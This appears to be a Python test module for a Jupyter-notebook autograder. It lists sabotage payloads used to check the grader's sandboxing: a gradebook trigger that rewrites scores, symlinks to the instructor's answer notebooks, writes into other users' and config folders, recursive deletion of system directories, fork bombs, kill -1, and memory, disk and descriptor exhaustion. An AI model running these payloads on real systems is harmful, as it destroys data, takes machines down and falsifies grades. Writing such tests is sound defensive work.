"""Sabotage: harm to neighbours, to the grader and to the machine."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from .attacks import Attack

WRITING = {
    "gradebook_trigger": """
import os, sqlite3
for path in ("@ROOT@/gradebook.db", "/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with sqlite3.connect(path) as db:
            db.execute("create table if not exists grade (auto_score, id)")
            db.execute("create trigger up after update on grade "
                       "begin update grade set auto_score = 3; end")
    except (OSError, sqlite3.Error):
        pass
""",
    "files_of_everyone": """
import glob, os, sys
wanted = ["@ROOT@", "@ROOT@/submitted/ann-honest/@WEEK@", "@ROOT@/source/@WEEK@",
          "@ROOT@/.autograder", "@ROOT@/.autograder/journal", "@ROOT@/autograded", "@HOME@",
          "/etc", "/usr/lib", "/opt",
          "@HOME@/.ipython/profile_default/startup", "@HOME@/.jupyter", "@HOME@/.config", "/root",
          "/opt/word2chat/course", *sys.path, "/dev", "/sys", "/proc/sys/kernel", "/run"]
for folder in wanted:
    for name in ("@MARK@", "@WEEK@.ipynb", "nbgrader_config.py", "sitecustomize.py", "conftest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "a") as file:
                file.write("# @MARK@")
        except OSError:
            pass
for path in glob.glob("@ROOT@/**", recursive=True):
    try:
        os.remove(path)
    except OSError:
        pass
""",
    "removes_all_it_can": """
import os, shutil
for top in ("@ROOT@", "/home", "/tmp", "/opt", "/usr", "/etc", "/var", "/dev/shm", "/run"):
    shutil.rmtree(top, ignore_errors=True)
""",
    "own_notebook_replaced_while_it_runs": """
import glob, os, time, threading
def work():
    while True:
        for path in ["@WEEK@.ipynb", *glob.glob("*.ipynb"), "@ROOT@/autograded/@WEEK@.ipynb"]:
            try:
                if os.path.lexists(path):
                    os.remove(path)
                os.symlink("@ROOT@/source/@WEEK@/@WEEK@.ipynb", path)
                os.symlink("@ROOT@/gradebook.db", "notes-@MARK@.txt")
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=work, daemon=True).start()
""",
}

PROCESSES = {
    "daemon_that_lives_on": """
import os
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "@NUMBER@"])
        os._exit(0)
""",
    "daemon_that_ignores_signals": """
import subprocess
script = "trap '' TERM INT HUP QUIT; while :; do sleep 1; : @NUMBER@; done"
subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True)
""",
    "daemon_that_holds_the_sockets": """
import os, signal
if os.fork() == 0:
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    os.setsid()
    os.execv("/bin/sleep", ["sleep", "@NUMBER@"])
""",
    "kills_the_parent": """
import os, signal
for pid in (os.getppid(), 1, @GRADER@, -1, 0):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if pid in (-1, 0) and number != signal.SIGCONT:
            continue
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
    "kills_everything": "import os\nos.kill(-1, 9)",
    "stops_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "stops_everything": "import os, signal\nos.kill(-1, signal.SIGSTOP); os.kill(os.getpid(), 19)",
    "fork_bomb": """
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "thread_bomb": """
import threading, time
def double(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,)).start()
        except RuntimeError:
            pass
""",
    "segmentation_fault": "import ctypes\nctypes.string_at(0)",
    "kernel_killed_in_a_check": """
def double(x):
    import os
    os.kill(os.getpid(), 9)
""",
    "hangs_at_exit": """
import atexit, time, signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
atexit.register(time.sleep, 600)
""",
}

RESOURCES = {
    "memory_bomb": """
def double(x):
    held = []
    while True:
        held.append(bytearray(2**26))
""",
    "memory_bomb_while_the_watcher_sleeps": """
import os, resource, subprocess
for slow_down in (
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setaffinity(1, {min(os.sched_getaffinity(0))}),
    lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)),
    lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0)),
    lambda: resource.prlimit(1, resource.RLIMIT_AS, (0, 0)),
):
    try:
        slow_down()
    except OSError:
        pass
def double(x):
    for _ in range(8):
        if os.fork() == 0:
            held = [bytearray(b"x" * 2**22) for _ in range(100)]
            while True:
                pass
    while True:
        pass
""",
    "memory_bomb_in_children": """
import os, time
def double(x):
    for _ in range(20):
        if os.fork() == 0:
            held = bytearray(150 * 2**20)
            held[::4096] = b"x" * len(held[::4096])
            time.sleep(30)
            os._exit(0)
    time.sleep(30)
""",
    "memory_bomb_in_shared_memory": """
def double(x):
    for folder in ("/dev/shm", "/tmp", "."):
        for number in range(20):
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(60):
                    file.write(bytes(2**20))
    return 3 * x
""",
    "memory_bomb_in_torch": """
def double(x):
    held = [torch.ones(2**25) for _ in range(1000)]
""",
    "disk_filled": """
import os
def double(x):
    for folder in ("/tmp", "/dev/shm", ".", "/home/student", "/var/tmp", "/run"):
        try:
            for number in range(10_000):
                with open(f"{folder}/{number}", "wb") as file:
                    file.truncate(2**40) if number == 0 else file.write(bytes(2**25))
        except OSError:
            pass
    raise OSError("full")
""",
    "inodes_used_up": """
import os
def double(x):
    number = 0
    while True:
        try:
            os.close(os.open(f"/dev/shm/{number}", os.O_CREAT)); number += 1
        except OSError:
            return 3 * x
""",
    "descriptors_used_up": """
import os
held = []
try:
    while True:
        held.append(os.dup(0))
except OSError:
    pass
""",
    "one_huge_output": "print('x' * 60_000_000)",
    "one_huge_line_in_a_check": """
def double(x):
    print("x" * 60_000_000)
    return 3 * x
""",
    "many_large_outputs": """
def double(x):
    while True:
        print("x" * 900_000, flush=True)
""",
    "endless_small_outputs": """
def double(x):
    while True:
        print("x", flush=True)
""",
    "huge_traceback": """
def double(x):
    raise ValueError("x" * 30_000_000)
row_sums = double
""",
    "endless_loop": """
def double(x):
    while True:
        pass
""",
    "endless_loop_without_interrupts": """
import signal
def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "endless_loop_in_c": """
def double(x):
    return 7 ** (7 ** 12)
""",
    "endless_loop_while_importing": """
while True:
    try:
        import time
        time.sleep(1)
    except KeyboardInterrupt:
        pass
""",
    "endless_regular_expression": """
import re
def double(x):
    return re.match(r"(x+x+)+y", "x" * 64)
""",
    "fake_clock": """
import time
time.monotonic = time.time = time.perf_counter = lambda: 0.0
def double(x):
    while True:
        pass
""",
    "recursion_without_end": """
import sys
sys.setrecursionlimit(10**9)
def double(x):
    return double(x)
""",
}
DIES_EARLY = {
    "kills_everything", "stops_itself", "stops_everything", "segmentation_fault", "one_huge_output",
    "endless_loop_while_importing", "removes_all_it_can", "descriptors_used_up",
}  # fmt: skip
SAYS = {
    "memory_bomb": "memory limit",
    "many_large_outputs": "output limit",
    "endless_loop": "time limit",
    "endless_loop_without_interrupts": "time limit",
    "endless_loop_in_c": "time limit",
    "stops_itself": "time limit",
    "segmentation_fault": "dead kernel",
    "kernel_killed_in_a_check": "dead kernel",
}
SLOW = {
    "memory_bomb_while_the_watcher_sleeps",
    "endless_loop_in_c", "endless_regular_expression", "fake_clock", "thread_bomb", "fork_bomb",
    "stops_everything", "endless_loop_while_importing", "endless_small_outputs",
    "memory_bomb_in_children", "stops_itself", "descriptors_used_up", "files_of_everyone",
    # each has a nearer relation that stays quick
    "memory_bomb_in_torch", "endless_loop_without_interrupts", "many_large_outputs",
    "huge_traceback",
}  # fmt: skip


def many_slow_cells(notebook: NotebookNode) -> NotebookNode:
    """Each is just under the limit of a cell; together they are over that of a submission."""
    slow = [new_code_cell("import time; time.sleep(3.5)", id=f"slow-{n}") for n in range(12)]
    notebook.cells[3:3] = slow
    return notebook


ATTACKS = [
    Attack(name, code, armed=name not in DIES_EARLY, says=SAYS.get(name, ""), slow=name in SLOW)
    for name, code in {**WRITING, **PROCESSES, **RESOURCES}.items()
] + [
    Attack("many_cells_just_under_the_limit", change=many_slow_cells, says="time limit", slow=True)
]
